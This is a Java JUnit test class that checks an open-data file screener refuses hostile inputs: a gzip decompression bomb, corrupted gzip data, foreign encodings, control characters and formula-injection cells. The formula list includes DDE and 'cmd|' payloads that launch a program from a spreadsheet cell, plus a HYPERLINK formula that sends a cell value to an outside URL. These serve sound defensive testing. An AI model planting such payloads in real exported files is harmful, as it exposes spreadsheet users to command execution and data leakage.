package org.openscrutiny.opendata;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.openscrutiny.domain.Finding;
import org.openscrutiny.geography.OfficialGazetteer;

/// Files that are made to harm the reader of a report, the memory or a spreadsheet.
class HostileCellsTest {
  @Test
  @Tag("slow")
  void aCompressedBombIsRefusedAtItsStart() {
    var bytes = new ByteArrayOutputStream();
    byte[] million = "a".repeat(1_000_000).getBytes(UTF_8);
    try (var gzip = new GZIPOutputStream(bytes)) {
      gzip.write("time_period,time_identifier\n2024,\"".getBytes(UTF_8));
      for (int i = 0; i < 300; i++) {
        gzip.write(million);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    var counted = new CountedFiles("data.csv.gz", bytes.toByteArray());

    assertThat(DataFileScreening.alone(counted, "data.csv.gz", OfficialGazetteer.read()))
        .extracting(Finding::check)
        .containsExactly("file-format");
    assertThat(counted.given).isLessThan(bytes.size() / 2);
  }

  /// A compressed file with flipped bytes or without its end: it is refused, or its figures are
  /// right.
  @Test
  void aDamagedCompressedFileIsRefusedOrHasTheSameFigures() {
    MemoryFiles good = FaultlessRelease.files();
    byte[] gzip = gzip(good.text("monthly.csv"));
    good.without("monthly.csv");
    good.with(
        "release.json", good.text("release.json").replace("\"monthly.csv", "\"monthly.csv.gz"));
    ScreeningOutcome.Accepted right = FaultlessRelease.accepted(good.with("monthly.csv.gz", gzip));
    for (int i = 0; i < gzip.length; i += 5) {
      byte[] flipped = gzip.clone();
      flipped[i] ^= 0x20;
      byte[] cut = Arrays.copyOf(gzip, i);
      for (byte[] damaged : List.of(flipped, cut)) {
        ScreeningOutcome screened = FaultlessRelease.screen(good.with("monthly.csv.gz", damaged));
        if (screened instanceof ScreeningOutcome.Accepted accepted) {
          assertThat(accepted.figures()).isEqualTo(right.figures());
        }
      }
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "windows-1252", "IBM037"})
  void textInAnotherEncodingIsRefused(String encoding) {
    MemoryFiles files = FaultlessRelease.files();
    String text = files.text("monthly.csv").replace("Fostered", "Fostered – “kin”");

    List<Finding> findings =
        FaultlessRelease.screen(files.with("monthly.csv", text.getBytes(Charset.forName(encoding))))
            .findings();

    assertThat(findings)
        .singleElement()
        .extracting(Finding::check)
        .isIn("file-encoding", "file-format");
  }

  @ParameterizedTest
  @ValueSource(strings = {"\u0000", "\u0001", "\u001B", "\u0008"})
  void aControlCharacterAnywhereIsRefused(String control) {
    String text = FaultlessRelease.files().text("second_table.csv");
    for (int i = 0; i <= text.length(); i += 11) {
      String changed = text.substring(0, i) + control + text.substring(i);

      assertThat(
              FaultlessRelease.screen(FaultlessRelease.files().with("second_table.csv", changed)))
          .isInstanceOf(ScreeningOutcome.Refused.class);
    }
  }

  @Test
  void quotationsAreShortAndWithoutControlCharacters() {
    MemoryFiles files = FaultlessRelease.files();
    String long100 = "\"8\t\n" + "8".repeat(100) + "\"";
    files.with(
        "monthly.csv", files.text("monthly.csv").replace("300,c,c", "300," + long100 + ",c"));

    assertThat(FaultlessRelease.screen(files).findings())
        .singleElement()
        .satisfies(finding -> {
          String found = finding.places().getFirst().found();
          assertThat(found).hasSize(80).endsWith("…").doesNotContain("\n", "\t");
          assertThat(finding.message()).doesNotContain("\n", "\t");
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"x\"\")",
        "@SUM(1+1)",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")"
      })
  void aFormulaIsRefusedInALevelInALabelAndInAName(String formula) {
    String quoted = "\"" + formula + "\"";
    MemoryFiles level = FaultlessRelease.files();
    level.with("monthly.csv", level.text("monthly.csv").replace("Fostered", quoted));
    MemoryFiles label = FaultlessRelease.files();
    label.with(
        "monthly.meta.csv", label.text("monthly.meta.csv").replace("Social workers", quoted));
    MemoryFiles hint = FaultlessRelease.files();
    hint.with(
        "monthly.meta.csv", hint.text("monthly.meta.csv").replace("Where the child lives", quoted));
    MemoryFiles column = FaultlessRelease.files();
    column.with("second_table.csv", column.text("second_table.csv").replaceAll("(?m)(.)$", "$1,"));
    column.with(
        "second_table.csv",
        column.text("second_table.csv").replace("children,\n", "children," + quoted + "\n"));
    for (MemoryFiles files : List.of(level, label, hint, column)) {
      assertThat(FaultlessRelease.screen(files).findings())
          .filteredOn(finding -> finding.level() == Finding.Level.FAIL)
          .extracting(Finding::check)
          .containsAnyOf("rows-formula", "name-spaces", "data-empty");
    }
  }

  private static byte[] gzip(String text) {
    var bytes = new ByteArrayOutputStream();
    try (var gzip = new GZIPOutputStream(bytes)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  /// One data file that counts how many of its bytes are read.
  private static final class CountedFiles implements ReleaseFiles {
    private final MemoryFiles files = new MemoryFiles();
    private long given;

    private CountedFiles(String name, byte[] bytes) {
      files.with(name, bytes);
      files.with("data.meta.csv", FaultlessRelease.files().text("monthly.meta.csv"));
    }

    @Override
    public String folder() {
      return "memory";
    }

    @Override
    public List<String> names() {
      return files.names();
    }

    @Override
    public InputStream open(String name) {
      InputStream bytes = files.open(name);
      return new InputStream() {
        @Override
        public int read() throws IOException {
          given++;
          return bytes.read();
        }
      };
    }
  }
}
